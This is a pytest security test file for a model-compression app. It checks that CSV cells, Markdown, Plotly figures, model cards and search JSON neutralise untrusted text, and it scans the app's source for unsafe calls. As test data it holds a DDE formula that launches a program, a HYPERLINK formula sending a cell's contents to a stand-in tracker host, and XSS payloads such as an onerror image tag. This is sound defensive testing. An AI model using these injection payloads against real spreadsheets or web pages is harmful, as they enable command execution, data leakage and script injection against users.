"""Text from outside stays text: in Markdown, in figures, in a spreadsheet; and no source unpickles or trusts it."""

from __future__ import annotations

import ast
import csv
import io
import json
import re
from pathlib import Path
from typing import Any

import plotly.graph_objects as go
import pytest

from compressor_core.data.columns import Columns
from compressor_core.data.intake import inspect, take_in
from compressor_core.data.tables import Row, read_rows
from compressor_core.errors import CompressorError
from compressor_core.export.model_card import model_card
from compressor_core.figures.words.forms import csv_text
from compressor_core.figures.words.links import without_links
from compressor_core.literal import cell, literal, literal_code, uncelled
from compressor_core.models.card import ModelCard
from compressor_core.records import ExportedForm, ExportSummary, FileLatency, Machine
from compressor_core.report.page import Picture
from compressor_core.search.genetic import SearchSettings, search
from compressor_core.search.replica import Replica, replica
from compressor_core.task import Task
from tests.collect import kept

ROOT = Path(__file__).resolve().parents[2]
SOURCES = sorted([ROOT / "app.py", *(ROOT / "pages").rglob("*.py"), *(ROOT / "compressor_core").rglob("*.py")])
FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://tracker.example/?"&A1)',
    "=cmd|' /C calc'!A0",
    "+1+cmd",
    "-2+3+cmd",
    "@SUM(1+1)*cmd",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1+1",
    "-",
)
FORBIDDEN_CALLS = {
    *("pickle.load", "pickle.loads", "joblib.load", "marshal.load", "marshal.loads", "shelve.open", "dill.load"),
    *(
        "os.system",
        "os.popen",
        "eval",
        "exec",
        "yaml.load",
        "pandas.read_pickle",
        "__import__",
    ),
    *("tempfile.mktemp", "shutil.unpack_archive"),
}


def called(node: ast.Call) -> str:
    return ast.unparse(node.func)


@pytest.mark.parametrize("path", SOURCES, ids=lambda path: str(path.relative_to(ROOT)))
def test_no_source_unpickles_runs_code_or_trusts_html(path: Path) -> None:
    tree = ast.parse(path.read_text("utf-8"))
    for node in ast.walk(tree):
        if not isinstance(node, ast.Call):
            continue
        name, given = called(node), {one.arg: ast.unparse(one.value) for one in node.keywords}
        where = f"line {node.lineno}: {name}"
        assert name not in FORBIDDEN_CALLS, where
        assert name not in {"numpy.load", "np.load"} or given.get("allow_pickle") == "False", where
        assert "unsafe_allow_html" not in given and given.get("allow_pickle", "False") == "False", where
        # One script of ours names files of Streamlit, one the page's own address and one a signed token, as JSON.
        assert "unsafe_allow_javascript" not in given or path.name in {"ahead.py", "frame.py", "gate.py"}, where
        assert given.get("trust_remote_code", "False") == "False", where
        assert given.get("shell", "False") == "False", where
        assert name != "torch.load" or given.get("weights_only") == "True", where
        if name.endswith(".from_pretrained"):
            assert given.get("trust_remote_code") == "False", where
        if name.endswith(".extractall"):
            assert given.get("filter") == "'data'", where
        if name in ("st.html", "st.iframe", "st.components.v1.html"):
            # Only what is constant, or built by a function that escapes (tested below and in the browser).
            assert path.name in ("look.py", "table.py", "ahead.py", "frame.py", "gate.py") or ast.unparse(
                node.args[0]
            ) in (
                "MONOSPACED",
                "attribution_html(function)",
            )


@pytest.mark.parametrize("text", [*FORMULAS, "a,b\nc", '"quoted"', "plain", "'=kept'", ""])
def test_no_cell_is_a_formula_and_numbers_stay_numbers(text: str) -> None:
    (header, cells) = csv.reader(io.StringIO(csv_text([{text or "x": text, "n": -1.5, "m": "-1.5", "k": "+3e-4"}])))
    for written in (header[0], cells[0]):
        assert not written.startswith(tuple("=+-@\t\r\n＝"))
    assert cells[1:] == ["-1.5", "-1.5", "+3e-4"]


@pytest.mark.parametrize("text", ["=x", "'=x", "''=x", "'x", "x", "-5", "'-5", "'-'.join(x)", "@Override", ""])
def test_a_text_comes_back_out_of_its_cell(text: str) -> None:
    assert uncelled(str(cell(text))) == text


def test_a_file_of_ours_reads_back_as_it_was(tmp_path: Path) -> None:
    codes = ["@Override\npublic int f() { return 1; }", "-x;", "=y", "\tint g() {}", "int h() { return 0; }"]
    path = tmp_path / "rows.csv"
    path.write_text(csv_text([{"func": code, "label": n % 2} for n, code in enumerate(codes)]), "utf-8")
    kept = take_in(path, tmp_path / "kept")
    assert [row.example.codes[0] for row in read_rows(kept) if isinstance(row, Row)] == codes


@pytest.mark.parametrize(
    "text",
    [
        "![x](http://tracker.example/a.png)",
        "[click](javascript:alert(1))",
        "<img src=x onerror=alert(1)>",
        "<http://tracker.example>",
        "**bold** _it_ ~~no~~ $x^2$ :red[x] `code`",
        "# Title",
        "- item",
        "1. item",
        "123) item",
        "2.926 MB",
        "---",
        "> quote",
        "&lt;b&gt;",
        "a\n\n# b\n\n```js\nx",
        "\\[x](y)",
        "```",
    ],
)
def test_markdown_is_escaped_where_it_would_mean_something(text: str) -> None:
    from markdown_it import MarkdownIt

    reader = MarkdownIt("commonmark").enable("strikethrough").enable("table")
    line = " ".join(text.split())
    for said in (literal(text), literal_code(text)):
        for alone in (said, f"{said} end"):
            html = reader.render(alone)
            assert not re.search(r"<(?!/?(p|code)>)", html), html
        html = reader.render(f"Name: {said} end")
        assert not re.search(r"<(?!/?(p|code)>)", html), html
        shown = re.sub(r"</?(p|code)>", "", html).replace("\u2060", "")
        for entity, sign in (("&lt;", "<"), ("&gt;", ">"), ("&quot;", '"'), ("&amp;", "&")):
            shown = shown.replace(entity, sign)
        assert shown.strip() == f"Name: {line} end"
    assert not re.search(r"<(?!/?p>)", reader.render(literal(text)))


def test_figures_hold_no_links() -> None:
    evil = '<a href="http://tracker.example/">x</a>'
    figure = go.Figure(
        go.Bar(
            x=[1.0, 2.0],
            y=[evil, "<b>ours</b>"],
            name=evil,
            text=[evil, "t"],
            customdata=[[evil, 1], ["x", 2]],
            hovertemplate=f"{evil}<br>%{{x}}<extra></extra>",
        )
    )
    figure.add_annotation(text=evil, hovertext=evil)
    figure.update_xaxes(ticktext=[evil], tickvals=[1], title=evil)
    told = json.dumps(json.loads(without_links(figure).to_json()))
    assert "<a" not in told and told.count("&lt;a href") == 9 and "<b>ours</b>" in told and "<extra></extra>" in told
    assert "<a" not in json.dumps(json.loads(str(Picture("t", go.Figure(go.Bar(name=evil)), "c").data)))


def test_the_card_of_a_model_shows_names_as_they_are() -> None:
    evil = "![x](http://tracker.example/a.png)\n# <img src=x>`"
    card = ModelCard(
        task=Task.VULNERABILITY,
        labels=(evil, "safe"),
        max_length=64,
        teacher=evil,
        dataset="file",
        training={"base": evil, "preset": evil},
    )
    form = ExportedForm(
        size_mb=1.0,
        max_abs_difference=0.0,
        inputs=1,
        examples=1,
        correct=1,
        latency=FileLatency(median=1.0, p90=1.0, rounds=1),
    )
    machine = Machine(processor="p", system="s", threads=1, batch_size=1, runtime="r", precision="float32")
    result = ExportSummary(
        model=evil,
        task=Task.VULNERABILITY,
        format="bundle",
        files=(evil,),
        size_mb=1.0,
        max_abs_difference=0.0,
        forms={"model.onnx": form},
        flagged=False,
        dataset=evil,
        split="test",
        labelled=False,
        examples=1,
        parameters=1,
        weights_mb=1.0,
        machine=machine,
        seconds=1.0,
    )
    from markdown_it import MarkdownIt

    html = MarkdownIt("commonmark").enable("table").render(model_card(card, result))
    assert "<img" not in html and "tracker.example" in html and html.count("<h1>") == 1


@pytest.mark.parametrize("change", ["best", "program", "sizes", "deep", "config"])
def test_the_json_of_a_search_is_not_believed(change: str) -> None:
    config = SearchSettings(budget_mb=3.0, population=4, generations=1)
    values = replica(config, kept(search(config))).model_dump(mode="json")
    assert Replica.model_validate(values).config == config
    spoilt: dict[str, Any] = {
        "best": {"best": "evil"},
        "program": {"program": ["![x](y)"]},
        "sizes": {"best": {"paper_gflops": "x", "size_mb": 1.0}},
        "deep": {"config": {"space": {"from": []}}},
        "config": {"config": {"budget_mb": {}}},
    }
    with pytest.raises(CompressorError):
        Replica.model_validate({**values, **spoilt[change]})


def test_an_archive_is_no_table(tmp_path: Path) -> None:
    for name, start in (("a.csv", b"PK\x03\x04"), ("b.jsonl", b"\x1f\x8b\x08"), ("c.csv", b"PAR1")):
        path = tmp_path / name
        path.write_bytes(start + bytes(100))
        with pytest.raises(CompressorError, match=r"archive|Parquet"):
            inspect(path, Columns())
